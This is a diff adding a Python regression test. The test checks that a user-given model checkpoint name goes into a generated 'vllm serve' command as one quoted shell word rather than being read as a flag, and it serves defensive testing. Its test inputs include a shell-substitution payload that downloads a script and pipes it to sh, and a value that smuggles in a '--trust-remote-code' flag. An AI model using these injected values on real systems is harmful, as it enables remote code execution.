@@ -159,3 +159,18 @@ def test_every_command_parses_and_loads_the_planned_format(version: str) -> None
     assert commands > least and notes > least, (commands, notes, refused)
     if version in TARGETED:  # every KV dtype of the release launched somewhere (B200: nvfp4)
         assert kv_launched == set(kv_cache_dtypes(version)), version
+
+
+def test_a_given_checkpoint_is_one_shell_word_and_never_a_flag() -> None:
+    # --target-checkpoint / the app's ckpt went into the command as is: a shell substitution
+    # ran when the command was pasted, and "org/x --trust-remote-code" added a flag
+    spec = _spec("Qwen/Qwen3-8B")
+    for given in ("$(curl${IFS}evil.sh|sh)", "org/x --trust-remote-code", "/data/my model"):
+        settings = EngineSettings(target_quant="w4a16-gptq-g128", target_checkpoint=given)
+        command = summary_figures(spec, CLUSTER, ParallelLayout(tp=1), settings,
+                                  validated=True)["vllm_command"]
+        assert shlex.split(command)[:3] == ["vllm", "serve", given], command
+        assert "--trust-remote-code" not in shlex.split(command)
+    for flag_like in ("--trust-remote-code", "-h", "a\nb", " "):
+        with pytest.raises(ValueError, match="target_checkpoint"):
+            EngineSettings(target_quant="w4a16-gptq-g128", target_checkpoint=flag_like)
